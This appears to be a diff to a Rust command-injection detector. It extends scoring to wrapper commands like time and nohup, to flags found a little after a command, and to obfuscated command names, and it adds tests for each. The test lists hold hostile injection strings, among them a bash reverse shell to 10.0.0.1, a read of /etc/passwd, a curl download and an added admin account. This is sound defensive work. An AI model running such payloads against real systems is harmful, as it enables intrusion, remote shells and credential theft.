@@ -294,14 +294,31 @@ fn code_call(cased: &[u8], text: &[u8], i: usize) -> u8 {
 
 /// The score of a command read at `i`, led there by `lead` (0 if there is no command).
 fn candidate(cased: &[u8], text: &[u8], i: usize, lead: Lead) -> u8 {
+    wrapped_candidate(cased, text, i, lead, 0)
+}
+
+/// [`candidate`], following up to two wrappers (`time`, `nohup`, `sudo`…) to the command they run.
+fn wrapped_candidate(cased: &[u8], text: &[u8], i: usize, lead: Lead, depth: u8) -> u8 {
     let Some(start) = skip_lead(text, i) else {
         return 0;
     };
     let Some((strength, flags, end)) = command_at(cased, text, start) else {
         return 0;
     };
-    let arg = argument(text, end, flags).max(subcommand(text, start, end));
-    let score = lead as u8 + strength + arg;
+    let mut arg = argument(text, end, flags).max(subcommand(text, start, end));
+    // `ansible all -m ping`: an unmistakable command with a flag a little further on.
+    if arg == 0 && strength == 3 && later_flag(text, end) {
+        arg = 2;
+    }
+    let mut score = lead as u8 + strength + arg;
+    if flags & cmd::WRAP != 0 && depth < 2 {
+        // `time ifconfig`, `nohup sh -c id`: the wrapped command counts as if it stood in the wrapper's place.
+        let mut next = end;
+        while matches!(lc(text, next), b' ' | b'\t') {
+            next += 1;
+        }
+        score = score.max(wrapped_candidate(cased, text, next, lead, depth + 1));
+    }
     if lead != Lead::Start {
         return score;
     }
@@ -312,6 +329,26 @@ fn candidate(cased: &[u8], text: &[u8], i: usize, lead: Lead) -> u8 {
     }
     // At the start of a value there is no injection point to see: never unmistakable.
     score.min(MEDIUM)
+}
+
+/// Whether one of the next three words after `i` (up to a separator) is a flag (`-m`, `--url`).
+fn later_flag(text: &[u8], mut i: usize) -> bool {
+    for _ in 0..3 {
+        while matches!(lc(text, i), b' ' | b'\t') {
+            i += 1;
+        }
+        if lc(text, i) == b'-' && flag(text, i) == 3 {
+            return true;
+        }
+        let start = i;
+        while !matches!(lc(text, i), 0 | b' ' | b'\t' | b';' | b'|' | b'&' | b'\n') && i - start < 32 {
+            i += 1;
+        }
+        if i == start {
+            return false;
+        }
+    }
+    false
 }
 
 /// 2 when the word after the command at `start..end` is one of its subcommands (`net user`, `reg add`), else 0.
@@ -383,7 +420,9 @@ fn command_at(cased: &[u8], text: &[u8], i: usize) -> Option<(u8, u8, usize)> {
             }
             // Quotes inside a name vanish (`c'a't`); `$@`, `$*` and `$1` expand to nothing; `^` escapes in cmd.exe.
             b'\'' | b'"' if len > 0 && is_word(next) => 1,
-            b'$' if matches!(next, b'@' | b'*' | b'0'..=b'9') => 2,
+            b'$' if matches!(next, b'@' | b'*' | b'0'..=b'9' | b'?' | b'!' | b'-' | b'#') => 2,
+            // An empty backtick pair inside a name (`pi``ng`).
+            b'`' if next == b'`' && len > 0 => 2,
             // `$()` and `${x}` expand to nothing inside a name (`pi$()ng`, `c${u}url`).
             b'$' if next == b'(' && lc(text, j + 2) == b')' => 3,
             b'$' if next == b'{' => match (j + 2..j + 18).find(|&k| lc(text, k) == b'}') {
@@ -621,6 +660,7 @@ mod tests {
             ";pi$()ng -c 1 10.0.0.1",
             ";c${u}url http://10.0.0.1/x",
             "{,ifconfig,-a}",
+            ";c$?at /etc/passwd",
             "() { :;}; echo vulnerable",
             "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
             "<!--#exec cmd=\"ls\"-->",
@@ -646,6 +686,10 @@ mod tests {
             "sleep 5",
             "; net user admin P4ss /add",
             "reg add HKLM\\Software\\x /f",
+            "time ifconfig",
+            "nohup sh -c whoami",
+            "ansible all -m ping",
+            "ll /var/www/",
         ] {
             assert_eq!(lowest(attack), Some(Sensitivity::Medium), "{attack}");
         }
@@ -660,7 +704,7 @@ mod tests {
         for attack in ["phpinfo()", "system($_GET['c'])", "<?php echo 1; ?>", "${@print(1)}", "{${sleep(1)}}"] {
             assert_eq!(lowest(attack), Some(Sensitivity::Medium), "{attack}");
         }
-        for attack in ["; cat", "x | more", "dir", "; bash", "net user growth", "time ifconfig", "x | nice"] {
+        for attack in ["; cat", "x | more", "dir", "; bash", "net user growth", "x | nice", "sudo make me a sandwich"] {
             assert_eq!(lowest(attack), Some(Sensitivity::High), "{attack}");
         }
     }
@@ -690,6 +734,7 @@ mod tests {
             "Rock & Roll | Jazz",
             "2024-01-01T10:00:00Z",
             "Tom & Jerry; Cat lovers",
+            "time and again",
             "/que/sortir/marcher/scène.jpeg",
             "Terms & Conditions; more info",
             "for 100% of users in (most) cases we do well",
